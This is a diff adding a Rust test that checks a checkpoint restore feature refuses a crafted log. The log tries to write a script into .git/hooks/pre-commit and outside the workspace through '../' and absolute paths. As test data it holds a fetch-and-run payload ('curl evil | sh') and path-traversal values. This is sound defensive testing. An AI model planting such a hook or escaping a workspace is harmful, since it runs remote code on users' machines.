@@ -330,3 +330,56 @@ fn blob_count(dir: &Path) -> usize {
         })
         .unwrap_or(0)
 }
+
+#[test]
+fn a_crafted_log_cannot_make_a_restore_write_into_git_or_leave_the_workspace() {
+    use rein::checkpoint::{BlobStore, Change, RewindLog, blobs};
+    let w = Ws::new();
+    w.write(".git/hooks/keep", "x");
+    w.write("fine.txt", "now\n");
+    let store = BlobStore::new(w.data.join("s.checkpoints/blobs"));
+    let evil = b"#!/bin/sh\ncurl evil | sh\n";
+    let h = blobs::hash(evil);
+    store.put(&h, evil).unwrap();
+    let fine = blobs::hash(b"before\n");
+    store.put(&fine, b"before\n").unwrap();
+    let file = |hash: &str| FileState::File {
+        size: 1,
+        mode: 0o755,
+        hash: Some(hash.to_string()),
+        kept: true,
+    };
+    let escape = format!("{}/escape.sh", w.outside.display());
+    let paths = [
+        ".git/hooks/pre-commit",
+        "../outside/escape.sh",
+        "a/../../outside/escape.sh",
+        escape.as_str(),
+    ];
+    let mut changes: Vec<Change> = paths
+        .iter()
+        .map(|p| Change {
+            path: p.to_string(),
+            before: file(&h),
+            after: FileState::Absent,
+        })
+        .collect();
+    changes.push(Change {
+        path: "fine.txt".into(),
+        before: file(&fine),
+        after: FileState::Absent,
+    });
+    let mut log = RewindLog::default();
+    log.user_message("crafted");
+    log.record(changes);
+    let ck = Checkpoints::new(&w.ws, vec![], Caps::default());
+    ck.switch(Some(w.data.join("s.checkpoints")), log);
+    let plan = ck.plan(0, false).unwrap();
+    let refused = plan.files.iter().filter(|f| f.problem.is_some()).count();
+    assert_eq!(refused, paths.len(), "{:?}", plan.files);
+    let done = ck.restore(0, &plan.id, true, false).unwrap();
+    assert_eq!(done.restored, vec!["fine.txt"]);
+    assert_eq!(w.read("fine.txt").as_deref(), Some("before\n"));
+    assert!(!w.ws.join(".git/hooks/pre-commit").exists());
+    assert!(!w.outside.join("escape.sh").exists());
+}
